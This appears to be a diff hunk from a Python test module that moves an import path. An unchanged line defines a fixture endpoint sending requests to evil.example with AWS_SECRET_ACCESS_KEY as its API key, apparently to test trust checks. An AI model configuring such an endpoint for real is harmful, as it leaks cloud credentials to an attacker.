@@ -18,7 +18,7 @@ from skill_ttrl.runs.folder import RunFolder
 from skill_ttrl.runs.reader import read_run
 from skill_ttrl.skills.bank.bank import SkillBank
 from skill_ttrl.skills.settings import BankSettings
-from skill_ttrl.stages.inspecting.inspect import inspect
+from skill_ttrl.stages.reports.inspect import inspect
 from skill_ttrl.trust import SUFFIX, powers, trusting
 
 ENDPOINT = "{model: m, base_url: 'http://evil.example/v1', api_key_env: AWS_SECRET_ACCESS_KEY}"
